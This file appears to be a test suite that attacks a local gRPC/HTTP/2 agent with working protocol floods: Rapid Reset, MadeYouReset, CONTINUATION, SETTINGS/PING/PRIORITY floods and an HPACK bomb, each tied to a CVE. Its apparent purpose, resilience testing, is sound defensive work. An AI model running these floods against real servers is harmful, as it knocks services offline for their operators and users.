import { Flag, FrameType, PREFACE, settingsFrame } from '../../src/http2/frames.ts';
import { data, frame, grpcRequest, headers, integer, SETTINGS_ACK, WireEncoder } from './http2-wire.ts';
import { call, callBlock, FETCH_JWT, FETCH_X509, HEALTH_CHECK, HostileConnection, jwtRequest, REFLECT, reset, tally, type Heard, type Target } from './hostile-wire.ts';

const BATCH = 500;

/** Whoever is not read any more does not go on: the agent has put it to sleep. */
const BLOCKED_MS = 1_000;

/** Sends `count` times what `bytes` says, as long as the connection lasts and the agent reads. */
async function flood(connection: HostileConnection, count: number, bytes: () => Buffer): Promise<Record<string, unknown>> {
  let isRead = true;
  for (let sent = 0; sent < count && connection.isOpen && isRead; sent += BATCH) {
    const sending = connection.send(...Array.from({ length: BATCH }, bytes)).then(() => true);
    const late = Promise.withResolvers<boolean>();
    const alarm = setTimeout(() => late.resolve(false), BLOCKED_MS);
    isRead = await Promise.race([sending, late.promise]);
    clearTimeout(alarm);
  }
  await connection.until(() => Object.keys(connection.heard.goaways).length > 0, 200);
  return { ...connection.heard, open: connection.isOpen, isRead };
}

/** A connection whose first call has been answered; `deaf`: from then on it reads nothing. */
async function begun(socketPath: string, deaf = false): Promise<HostileConnection> {
  const connection = await HostileConnection.open(socketPath);
  const block = new WireEncoder().block(grpcRequest(HEALTH_CHECK, 'localhost'));
  await connection.send(headers(connection.stream(), block), data(1, Buffer.alloc(5), true));
  await connection.until(() => connection.heard.endings['0 OK'] === 1);
  if (deaf) connection.socket.pause();
  return connection;
}

/** A table entry of 4,000 octets in the first block, and then 4,000 references to it in a block of as many octets. */
async function hpackBomb(socketPath: string, count: number): Promise<Record<string, unknown>> {
  const encoder = new WireEncoder();
  const connection = await HostileConnection.open(socketPath);
  const spelling = { whole: false, indexedName: false, indexing: 'incremental', huffman: false } as const;
  const first = Buffer.concat([encoder.block(grpcRequest(HEALTH_CHECK, 'localhost')), encoder.field(['x-bomb', 'b'.repeat(4_000)], spelling)]);
  await connection.send(headers(connection.stream(), first), data(1, Buffer.alloc(5), true));
  const bomb = Buffer.concat([new WireEncoder().block(grpcRequest(HEALTH_CHECK, 'localhost')), Buffer.alloc(4_000, integer(0x80, 7, 62))]);
  for (let sent = 0; sent < count && connection.isOpen; sent += 1) await connection.send(headers(connection.stream(), bomb, { endStream: true }));
  await connection.until(() => connection.heard.resets['11'] === count, 5_000);
  return { ...connection.heard, open: connection.isOpen };
}

function sum(heard: Heard): number {
  return [...Object.values(heard.resets), ...Object.values(heard.endings), ...Object.values(heard.goaways)].reduce((total, count) => total + count, 0);
}

/** Floods of frames over one connection. Each resolves with what the attacker was told. */
export const floodAttacks = {
  /** CVE-2023-44487. */
  rapidReset: async ({ socketPath, count = 30_000 }: Target) => {
    const connection = await begun(socketPath);
    return flood(connection, count, () => {
      const stream = connection.stream();
      return Buffer.concat([call(stream, FETCH_X509), reset(stream)]);
    });
  },

  /** The same, where the agent is made to reset (a WINDOW_UPDATE of 0): "MadeYouReset", CVE-2025-8671. */
  madeToReset: async ({ socketPath, count = 30_000 }: Target) => {
    const connection = await begun(socketPath);
    return flood(connection, count, () => {
      const stream = connection.stream();
      return Buffer.concat([headers(stream, callBlock(REFLECT)), frame(FrameType.windowUpdate, 0, stream, Buffer.alloc(4))]);
    });
  },

  /** CVE-2024-27983: a header block without end, after the first request. */
  continuation: async ({ socketPath, count = 20_000 }: Target) => {
    const connection = await begun(socketPath);
    const stream = connection.stream();
    await connection.send(frame(FrameType.headers, 0, stream, callBlock(FETCH_X509)));
    const part = new WireEncoder().block([['x-filler', 'b'.repeat(900)]]);
    return flood(connection, count, () => frame(FrameType.continuation, 0, stream, part));
  },

  /** The same as the first request. */
  continuationFirst: async ({ socketPath, count = 20_000 }: Target) => {
    const connection = await HostileConnection.connect(socketPath);
    connection.socket.resume();
    await connection.send(PREFACE, settingsFrame([]), SETTINGS_ACK, frame(FrameType.headers, 0, 1, callBlock(FETCH_X509)));
    return flood(connection, count, () => frame(FrameType.continuation, 0, 1));
  },

  /** SETTINGS whose ACKs nobody reads (CVE-2019-9515). */
  settings: async ({ socketPath, count = 100_000 }: Target) => flood(await begun(socketPath, true), count, () => settingsFrame([[4, 65_535]])),

  /** PINGs whose ACKs nobody reads (CVE-2019-9512). */
  ping: async ({ socketPath, count = 100_000 }: Target) => flood(await begun(socketPath, true), count, () => frame(FrameType.ping, 0, 0, Buffer.alloc(8))),

  /** PRIORITY for streams that do not exist (CVE-2019-9513). */
  priority: async ({ socketPath, count = 100_000 }: Target) => {
    const connection = await begun(socketPath);
    let stream = 1;
    return flood(connection, count, () => frame(FrameType.priority, 0, (stream += 2), Buffer.from([0, 0, 0, 0, 16])));
  },

  /** DATA without content (CVE-2019-9518). */
  emptyData: async ({ socketPath, count = 100_000 }: Target) => {
    const connection = await begun(socketPath);
    const stream = connection.stream();
    await connection.send(headers(stream, callBlock(FETCH_X509)));
    return flood(connection, count, () => frame(FrameType.data, 0, stream));
  },

  /** WINDOW_UPDATE of one octet each. */
  windowUpdate: async ({ socketPath, count = 100_000 }: Target) => flood(await begun(socketPath), count, () => frame(FrameType.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]))),

  /** Frames of types that nobody knows, which must be ignored (RFC 9113 §5.5). */
  unknownFrames: async ({ socketPath, count = 50_000 }: Target) => flood(await begun(socketPath), count, () => frame(0xbe, Flag.endStream, 0, Buffer.alloc(64))),

  hpackBomb: ({ socketPath, count = 200 }: Target) => hpackBomb(socketPath, count),

  /** Calls as fast as they are answered, over 32 connections: more than an owner's rate. */
  callFlood: async ({ socketPath, count = 40_000 }: Target) => {
    const all = await Promise.all(Array.from({ length: 32 }, () => begun(socketPath)));
    await Promise.all(all.map(async (connection) => {
      for (let sent = 0; sent < count / 32 && connection.isOpen; sent += 50) {
        await connection.send(...Array.from({ length: 50 }, () => call(connection.stream(), FETCH_JWT, jwtRequest('a'))));
        await connection.until(() => sum(connection.heard) > sent + 50);
      }
    }));
    const endings: Record<string, number> = {};
    for (const { heard } of all) for (const [text, times] of Object.entries(heard.endings)) tally(endings, text, times);
    return { endings };
  },

  /** Calls of methods that nobody has. */
  unknownMethods: async ({ socketPath, count = 20_000 }: Target) => {
    const connection = await begun(socketPath);
    const block = callBlock('/No.Such/Rpc');
    return flood(connection, count, () => headers(connection.stream(), block, { endStream: true }));
  },
};
